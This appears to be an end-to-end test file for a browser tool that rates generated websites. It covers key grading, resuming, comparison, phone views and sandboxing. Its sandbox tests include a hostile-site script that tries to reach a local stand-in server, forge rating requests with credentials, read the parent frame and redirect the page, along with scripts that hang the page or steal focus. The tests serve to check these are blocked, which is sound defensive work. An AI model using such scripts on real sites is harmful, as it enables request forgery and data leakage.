"""Rating in a real browser: by keys, resumed, compared, and against sites that fight back."""

from __future__ import annotations

import http.server
import os
import re
import signal
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import Browser, FrameLocator, Locator, Page, expect, sync_playwright
from playwright.sync_api import TimeoutError as NeverSeen

from rate_runs import write_run
from webgen_r1.rate.records import Choice, Grade, read_ratings
from webgen_r1.render.find import find_browser

pytestmark = pytest.mark.e2e

PAUSE_MS = 400  # longer than the page takes a key for one meant for the site before
PATIENCE_MS = 20_000
COMMAND = (
    "import sys; from pathlib import Path; from rich.console import Console; "
    "from webgen_r1.commands.rate import RateJob, rate; "
    "rate(RateJob([Path(p) for p in sys.argv[3:]], mode=sys.argv[1], out=Path(sys.argv[2]), "
    "repeats=0), Console(stderr=True))"
)


def html(body: str, script: str = "") -> str:
    return f"<!doctype html><html><head></head><body>{body}<script>{script}</script></body></html>"


@dataclass
class Server:
    """A `webgen rate` that runs, and the file it writes."""

    process: subprocess.Popen[str]
    address: str
    out: Path

    @property
    def origin(self) -> str:
        return self.address.partition("/?")[0]

    def stop(self) -> str:
        """As Ctrl-C does; what the command said last."""
        self.process.send_signal(signal.SIGINT)
        assert self.process.stderr is not None
        rest = self.process.stderr.read()
        assert self.process.wait(10) == 0
        return rest


@contextmanager
def serving(mode: str, out: Path, *runs: Path) -> Iterator[Server]:
    process = subprocess.Popen(
        [sys.executable, "-c", COMMAND, mode, str(out), *map(str, runs)],
        stderr=subprocess.PIPE,
        text=True,
    )
    assert process.stderr is not None
    try:
        found = None
        while found is None:
            line = process.stderr.readline()
            assert line, "the command ended without an address"
            found = re.search(r"http://\S+", line)
        yield Server(process, found[0], out)
    finally:
        with suppress(ProcessLookupError):
            process.kill()
        process.wait()
        process.stderr.close()


class Outside:
    """A server of another origin, which no site may reach."""

    def __init__(self) -> None:
        asked: list[str] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.asked = asked
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        self.thread = threading.Thread(target=self.server.serve_forever)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


@pytest.fixture
def outside() -> Iterator[Outside]:
    it = Outside()
    yield it
    it.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    flags = ["--no-sandbox"] if os.geteuid() == 0 else []
    with sync_playwright() as playwright:
        it = playwright.chromium.launch(executable_path=find_browser(), args=flags)
        expect.set_options(timeout=PATIENCE_MS)
        yield it
        expect.set_options(timeout=5_000)  # Playwright's own
        it.close()


OpenPage = Callable[..., Page]


@pytest.fixture
def open_page(browser: Browser) -> Iterator[OpenPage]:
    contexts = []

    def new(server: Server, rater: str = "Ann", width: int = 1280, height: int = 800) -> Page:
        context = browser.new_context(viewport={"width": width, "height": height})
        contexts.append(context)
        page = context.new_page()
        page.set_default_timeout(PATIENCE_MS)
        page.goto(server.address)
        page.get_by_label("Your name or initials").fill(rater)
        page.keyboard.press("Enter")
        return page

    yield new
    for context in contexts:
        context.close()


def site_of(page: Page) -> FrameLocator:
    return page.frame_locator("iframe")


def press(page: Page, key: str) -> None:
    page.wait_for_timeout(PAUSE_MS)
    page.keyboard.press(key)


def press_until(page: Page, key: str, seen: Locator) -> None:
    """A key that a thief of the focus got is lost, as it is for a person; the next one arrives."""
    for _ in range(4):
        press(page, key)
        with suppress(NeverSeen):
            seen.wait_for(timeout=5_000)
            return
    expect(seen).to_be_visible()


def grades(path: Path) -> Mapping[str, int]:
    return {r.site: r.score for r in read_ratings([path]) if isinstance(r, Grade)}


def three(folder: Path) -> Path:
    return write_run(folder, {name: html(f"<h1>{name}</h1>") for name in ("shop", "zoo", "gym")})


def test_three_sites_are_graded_by_keys_and_a_reload_goes_on(
    open_page: OpenPage, tmp_path: Path
) -> None:
    with serving("grade", tmp_path / "r.jsonl", three(tmp_path / "alpha")) as server:
        page = open_page(server)
        seen = {}
        for number, key in enumerate("253"):
            expect(page.locator("#count")).to_have_text(f"Site {number + 1} of 3")
            seen[site_of(page).locator("h1").inner_text()] = int(key)
            asked = page.locator("#instruction").inner_text()
            assert asked == f"Build {list(seen)[-1]}"
            press(page, key)
            if number == 0:
                expect(page.locator("#count")).to_have_text("Site 2 of 3")
                page.reload()
        expect(page.get_by_role("heading", name="Thank you")).to_be_visible()
        assert grades(server.out) == {f"alpha/{name}": grade for name, grade in seen.items()}

        press(page, "z")  # the last one, again
        expect(page.locator("[aria-pressed=true] b")).to_have_text("3")
        press(page, "c")
        page.keyboard.type("145 zzz")  # no key is a rating while one writes
        page.keyboard.press("Escape")
        press(page, "4")
        expect(page.get_by_role("heading", name="Thank you")).to_be_visible()
        assert sorted(grades(server.out).values()) == [2, 4, 5]
        assert "alpha" not in page.content()
        assert "4 ratings added" in server.stop()
    assert {r.comment for r in read_ratings([tmp_path / "r.jsonl"])} == {None, "145 zzz"}


def test_two_raters_at_once_and_a_restart(open_page: OpenPage, tmp_path: Path) -> None:
    run = three(tmp_path / "alpha")
    with serving("grade", tmp_path / "r.jsonl", run) as server:
        ann, bob = open_page(server), open_page(server, "Bob")
        press(ann, "4")
        expect(ann.locator("#count")).to_have_text("Site 2 of 3")
        expect(bob.locator("#count")).to_have_text("Site 1 of 3")
    press(ann, "5")
    expect(ann.locator("#toast")).to_contain_text("does not answer")
    expect(ann.locator("#count")).to_have_text("Site 2 of 3")
    with serving("grade", tmp_path / "r.jsonl", run) as server:
        expect(open_page(server).locator("#count")).to_have_text("Site 2 of 3")


def test_two_sites_are_compared_by_keys(open_page: OpenPage, tmp_path: Path) -> None:
    runs = [
        write_run(tmp_path / run, {name: html(f"<h1>{run}</h1>") for name in ("shop", "zoo")})
        for run in ("alpha", "beta")
    ]
    with serving("compare", tmp_path / "r.jsonl", *runs) as server:
        page = open_page(server)
        expect(page.frame_locator(".view:nth-child(2) iframe").locator("h1")).to_be_visible()
        left = page.frame_locator(".view:nth-child(1) iframe").locator("h1").inner_text()
        press(page, "ArrowLeft")
        expect(page.locator("#count")).to_have_text("Pair 2 of 2")
        press(page, " ")
        expect(page.get_by_role("heading", name="Thank you")).to_be_visible()
    first, second = (r for r in read_ratings([server.out]) if isinstance(r, Choice))
    assert getattr(first, first.choice).startswith(left)
    assert second.choice == "tie"


def test_pictures_and_screen_sizes(open_page: OpenPage, tmp_path: Path) -> None:
    with serving("grade", tmp_path / "r.jsonl", three(tmp_path / "alpha")) as server:
        page = open_page(server)
        width = site_of(page).locator("html").evaluate("() => innerWidth")
        assert width == 1280
        press(page, "v")
        expect(page.locator("[data-to=phone]")).to_have_attribute("aria-pressed", "true")
        assert site_of(page).locator("html").evaluate("() => innerWidth") == 390
        press(page, "s")
        picture = page.get_by_alt_text("The page /")
        expect(picture).to_be_visible()
        assert picture.evaluate("image => image.naturalWidth") == 64
        expect(page.get_by_role("tab", name="/")).to_have_attribute("aria-selected", "true")


@pytest.mark.parametrize("mode", ["grade", "compare"])
def test_a_phone_shows_everything_within_its_width(
    open_page: OpenPage, tmp_path: Path, mode: str
) -> None:
    runs = [three(tmp_path / "alpha"), three(tmp_path / "beta")]
    with serving(mode, tmp_path / "r.jsonl", *runs) as server:
        page = open_page(server, width=390, height=844)
        expect(page.locator(".answer").first).to_be_in_viewport()
        assert page.evaluate("document.documentElement.scrollWidth") == 390
        page.wait_for_timeout(PAUSE_MS)
        page.locator(".answer").nth(1).click()
        expect(page.locator("#count")).to_contain_text("2 of")
        assert len(read_ratings([server.out])) == 1


ATTEMPTS = """
const log = (name, what) => { document.getElementById("log").textContent += `${name}: ${what}\\n` };
const attempt = async (name, act) => {
  try { log(name, String(await act())) } catch (error) { log(name, "failed") }
};
(async () => {
  await attempt("storage", () => { localStorage.x = "1"; return localStorage.x });
  await attempt("own", async () => (await fetch("/index.html")).status);
  await attempt("top", () => { top.location = OUTSIDE + "/top"; return "did" });
  await attempt("parent", () => parent.document.body.innerHTML);
  await attempt("api", () => fetch(RATING + "/api/rate", {
    method: "POST", mode: "no-cors", credentials: "include",
    body: JSON.stringify({ rater: "Ann", number: 0, answer: 5 }),
  }));
  await attempt("page", () => fetch(RATING + "/", { credentials: "include" }));
  await attempt("fetch", () => fetch(OUTSIDE + "/fetch", { mode: "no-cors" }));
  await attempt("popup", () => window.open(OUTSIDE + "/popup") ? "did" : "failed");
  await attempt("worker", () => navigator.serviceWorker.register("/index.html"));
  await attempt("socket", () => new Promise((yes, no) => {
    const socket = new WebSocket(OUTSIDE.replace("http", "ws"));
    socket.onopen = yes; socket.onerror = no;
  }));
  await attempt("modal", () => confirm("Rate 5?") ? "did" : "failed");
  navigator.sendBeacon(OUTSIDE + "/beacon", "x");
  for (const tag of ["img", "iframe", "script", "link"]) {
    const element = document.createElement(tag);
    element.rel = "stylesheet";
    element.src = element.href = `${OUTSIDE}/${tag}`;
    document.body.append(element);
  }
  const up = Object.assign(document.createElement("a"), { target: "_top", href: OUTSIDE });
  document.body.append(up);
  up.click();
  parent.postMessage({ rater: "Ann", answer: 5 }, "*");
  setTimeout(() => log("end", "reached"), 500);
})();
"""


def test_a_hostile_site_reaches_nothing(
    open_page: OpenPage, tmp_path: Path, outside: Outside
) -> None:
    # The rating page's port is known to a site by `ancestorOrigins`.
    names = f"const OUTSIDE = '{outside.url}', RATING = location.ancestorOrigins[0];"
    run = write_run(tmp_path / "a", {"evil": html("<pre id=log></pre>", names + ATTEMPTS)})
    with serving("grade", tmp_path / "r.jsonl", run) as server:
        page = open_page(server)
        log = site_of(page).locator("#log")
        expect(log).to_contain_text("end: reached")
        found = dict(line.split(": ", 1) for line in log.inner_text().splitlines())
        assert (found.pop("storage"), found.pop("own"), found.pop("end")) == ("1", "200", "reached")
        assert found.pop("top") in ("did", "failed")  # Chromium may refuse it without a word
        assert set(found.values()) == {"failed"}, found
        assert page.url == f"{server.origin}/"
        assert outside.asked == []
        assert not server.out.read_text()
        press(page, "1")
        expect(page.get_by_role("heading", name="Thank you")).to_be_visible()
    assert grades(server.out) == {"a/evil": 1}


@pytest.mark.parametrize(
    "script",
    [
        "location.href = OUTSIDE",
        "const form = document.createElement('form'); form.action = OUTSIDE; "
        "document.body.append(form); form.submit()",
        "setTimeout(() => { while (true) {} }, 300)",
        "setInterval(() => { window.focus(); document.querySelector('input').focus() }, 20)",
        "history.go(-1); setTimeout(() => history.back(), 300)",
        "document.write('<plaintext>')",
    ],
    ids=["leaves", "sends a form", "hangs", "takes the focus", "goes back", "rewrites itself"],
)
def test_a_site_that_misbehaves_does_not_hinder_rating(
    open_page: OpenPage, tmp_path: Path, outside: Outside, script: str
) -> None:
    bad = html("<input>", f"const OUTSIDE = '{outside.url}'; {script}")
    run = write_run(tmp_path / "alpha", {"bad": bad, "worse": bad})
    with serving("grade", tmp_path / "r.jsonl", run) as server:
        page = open_page(server)
        expect(page.locator("#count")).to_have_text("Site 1 of 2")
        page.wait_for_timeout(800)
        press_until(page, "2", page.locator("#count", has_text="Site 2 of 2"))
        press_until(page, "3", page.get_by_role("heading", name="Thank you"))
        assert sorted(grades(server.out).values()) == [2, 3]
        assert outside.asked == []


def test_pictures_of_other_hosts_have_a_stand_in(
    open_page: OpenPage, tmp_path: Path, outside: Outside
) -> None:
    style = f"width: 90px; height: 60px; background-image: url({outside.url}/30x20.png)"
    body = f'<img src="{outside.url}/300x200.jpg"><p id="b" style="{style}"></p>'
    run = write_run(tmp_path / "alpha", {"shop": html(body)})
    with serving("grade", tmp_path / "r.jsonl", run) as server:
        site = site_of(open_page(server))
        expect(site.locator("img")).to_have_js_property("naturalWidth", 300)
        expect(site.locator("#b")).to_have_css("background-image", re.compile("placeholder"))
        assert outside.asked == []
